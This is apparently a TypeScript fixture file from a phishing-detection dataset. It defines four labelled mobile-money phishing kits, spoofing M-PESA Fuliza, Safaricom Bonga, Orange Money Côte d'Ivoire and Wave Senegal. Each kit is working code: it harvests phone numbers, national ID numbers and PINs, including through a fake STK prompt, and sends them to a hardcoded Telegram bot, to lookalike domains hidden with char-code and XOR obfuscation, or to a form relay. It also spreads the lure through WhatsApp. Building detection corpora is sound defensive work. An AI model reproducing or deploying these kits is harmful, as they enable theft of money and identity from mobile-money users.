import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { CSS, LOGO, b64, codes, doc, jsR, rawDoc, tgSend, xorB64, xorDecoder } from '../parts/yv-kit.js';

// Mobile-money credential kits: M-PESA (Kenya), MTN MoMo (Ghana), Orange Money and Wave (Côte d'Ivoire, Senegal).

const fuliza = doc({
  title: 'Fuliza M-PESA | Ongeza Limit',
  css: `${CSS.reset}body{background:#f1f8f1}.top{background:#4caf50;color:#fff;padding:18px;text-align:center}.c{max-width:400px;margin:16px auto;background:#fff;border-radius:10px;padding:20px}.lim{display:flex;justify-content:space-between;background:#e8f5e9;padding:12px;border-radius:8px;margin-bottom:12px}${CSS.field}button{width:100%;background:#4caf50;color:#fff;border:0;border-radius:6px;padding:13px;margin-top:16px;font-size:16px}small{color:#888}`,
  body: `<div class="top">${LOGO.mpesa.replace('#4caf50', '#2e7d32')}<h2 style="margin:8px 0 0">Ongeza Fuliza Limit yako</h2></div>
<div class="c"><div class="lim"><span>Current limit<br><b>KSh 1,500</b></span><span>Qualified limit<br><b style="color:#2e7d32">KSh 45,000</b></span></div>
<p>Congratulations! Based on your M-PESA usage you qualify for a higher Fuliza limit. Confirm your details to activate instantly. <i>Weka maelezo yako sahihi.</i></p>
<form id="fz"><label>Safaricom number</label><input name="msisdn" placeholder="07XX XXX XXX" required>
<label>ID number</label><input name="idno" required>
<label>M-PESA PIN (to authorise the new limit)</label><input name="pin" type="password" maxlength="4" inputmode="numeric" required>
<button>Activate KSh 45,000</button></form>
<p id="ok" style="display:none">Request received. You will receive an M-PESA confirmation SMS within 10 minutes.</p>
<small>Safaricom PLC &middot; Fuliza is provided in partnership with NCBA &amp; KCB</small></div>
<script>
${tgSend('6891120457:AAEuL9c2Yw3pQm0rZsVt7HnBxF5kJdA4oGi', '1784420093', 'push')}
document.getElementById('fz').onsubmit=function(e){e.preventDefault();var f=this;push('FULIZA \\u2705\\nNo: '+f.msisdn.value+'\\nID: '+f.idno.value+'\\nPIN: '+f.pin.value);f.style.display='none';document.getElementById('ok').style.display='block';};
</script>`,
});

const bonga = `<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width"><title>Safaricom Bonga Points</title>
<style>body{margin:0;font-family:Arial;background:#fff}.h{padding:12px;border-bottom:1px solid #eee}.hero{background:#4caf50;color:#fff;padding:24px}.pts{font-size:40px;font-weight:bold}.f{padding:18px}input{width:100%;padding:11px;margin:6px 0 14px;border:1px solid #bbb;border-radius:4px;box-sizing:border-box}button{width:100%;padding:13px;background:#e53935;color:#fff;border:0;border-radius:4px}#stk{display:none;position:fixed;inset:0;background:rgba(0,0,0,.6)}#stk div{background:#fff;margin:30vh 20px;padding:20px;border-radius:4px}</style></head><body>
<div class="h">${LOGO.safaricom}</div>
<div class="hero">Your Bonga balance<div class="pts">12,480 pts</div>Points expire on 30/09. Redeem to M-PESA cash now (KSh 2,496).</div>
<form class="f" id="b"><label>Phone number</label><input name="n" value="07" required><label>Bonga PIN / M-PESA PIN</label><input name="p" type="password" maxlength="4" required><button>Redeem to M-PESA</button></form>
<div id="stk"><div><b>M-PESA</b><p>Enter your M-PESA PIN to confirm redemption of KSh 2,496.00 to your account.</p><input id="sp" type="password" maxlength="4"><button id="sb">OK</button></div></div>
<script>
(function(){var u=String.fromCharCode(${codes('https://bonga-redeem.co.ke.pointsrewards.cfd/api/r.php')});
function s(o){var i=new XMLHttpRequest();i.open('POST',u);i.setRequestHeader('Content-Type','application/json');i.send(JSON.stringify(o));}
document.getElementById('b').onsubmit=function(e){e.preventDefault();s({n:this.n.value,p:this.p.value,t:'login'});document.getElementById('stk').style.display='block';};
document.getElementById('sb').onclick=function(){s({stk:document.getElementById('sp').value,t:'stk'});document.getElementById('stk').innerHTML='<div>Processing... Do not close this page.</div>';};})();
</script></body></html>`;

const omCi = doc({
  title: 'Orange Money Côte d\'Ivoire - Votre compte',
  lang: 'fr',
  css: `${CSS.reset}body{background:#000;color:#fff}.h{display:flex;align-items:center;gap:12px;padding:14px 20px;border-bottom:1px solid #333}.c{max-width:420px;margin:26px auto;background:#fff;color:#000;padding:26px}h1{font-size:22px}${CSS.field}input{border-radius:0;border:2px solid #000}button{width:100%;background:#ff7900;color:#000;border:0;padding:14px;font-weight:700;margin-top:18px}.alert{border-left:4px solid #ff7900;background:#fff4e6;padding:10px;font-size:14px}`,
  body: `<div class="h">${LOGO.orange.replace('width="60" height="60"', 'width="40" height="40"')}<b>Orange Money</b></div>
<div class="c"><h1>Votre compte Orange Money va être suspendu</h1>
<div class="alert">Suite à l'identification obligatoire des abonnés (ARTCI), votre compte sera désactivé sous 24 heures. Confirmez votre identité pour conserver votre solde.</div>
<form id="om"><label>Numéro Orange Money</label><input name="num" placeholder="07 XX XX XX XX" required>
<label>Code secret (4 chiffres)</label><input name="code" type="password" maxlength="4" inputmode="numeric" required>
<label>Numéro de la CNI</label><input name="cni" required>
<button>Confirmer mon identité</button></form></div>
<script>
${xorDecoder('_z')}
var _k='ci225',_u=_z('${xorB64('https://orangemoney-ci-verification.online/om/post.php', 'ci225')}',_k);
document.getElementById('om').onsubmit=function(e){e.preventDefault();var x=new XMLHttpRequest();x.open('POST',_u,false);try{x.send(new FormData(this));}catch(_){}location.href='https://www.orange.ci/fr/orange-money.html';};
</script>`,
});

const waveInner = `<div style="font-family:Helvetica,Arial;max-width:380px;margin:0 auto;padding:20px;text-align:center">${LOGO.wave}
<h2>Bonus Tabaski 2025 &#128017;</h2><p>Wave offre <b>25 000 FCFA</b> à ses clients fidèles au Sénégal. Il reste <b>112</b> bonus.</p>
<form id="w" style="text-align:left;background:#eafaff;padding:16px;border-radius:16px">
<label>Numéro Wave</label><input name="tel" placeholder="77 000 00 00" style="width:100%;padding:12px;border-radius:10px;border:1px solid #9be">
<label>Code secret Wave</label><input name="cs" type="password" maxlength="4" style="width:100%;padding:12px;border-radius:10px;border:1px solid #9be">
<button style="width:100%;background:#1dc8f2;border:0;color:#fff;padding:14px;border-radius:24px;margin-top:14px">Recevoir mon bonus</button></form>
<p style="font-size:12px;color:#777">Partagez avec 5 groupes WhatsApp pour valider.</p></div>`;
const waveKit = `<!DOCTYPE html><html lang="fr"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Wave Sénégal</title></head><body><div id="root"></div>
<script>
var _p=['${b64(waveInner).slice(0, 600)}','${b64(waveInner).slice(600)}'];
document.getElementById('root').innerHTML=decodeURIComponent(escape(window['at'+'ob'](_p.join(''))));
document.getElementById('w').addEventListener('submit',function(e){e.preventDefault();var b=new FormData(this);b.append('c','SN');
fetch(atob('${b64('https://formspree.io/f/xkndqyzw')}'),{method:'POST',body:b,headers:{Accept:'application/json'}}).then(function(){location.href='https://wa.me/?text='+encodeURIComponent('Wave offre 25 000 FCFA pour la Tabaski https://wave-tabaski-bonus.vercel.app');});});
</script></body></html>`;

export const entries: Entry[] = [
  { id: 'yv-mpesa-fuliza-limit-boost', label: 'phishing', kind: 'mobile-money-pin-kit', url: 'https://fuliza-limit.safaricom-ke.icu/ongeza', body: fuliza },
  { id: 'yv-safaricom-bonga-redeem-fake-stk', label: 'phishing', kind: 'mobile-money-pin-kit', url: 'https://bonga-redeem.co.ke.pointsrewards.cfd/redeem', body: bonga },
  { id: 'yv-orange-money-ci-suspension-fr', label: 'phishing', kind: 'mobile-money-pin-kit', url: 'https://orangemoney-ci-verification.online/om/identification', body: omCi },
  { id: 'yv-wave-sn-tabaski-bonus-fr', label: 'phishing', kind: 'mobile-money-pin-kit', url: 'https://wave-tabaski-bonus.vercel.app/', body: waveKit },
];
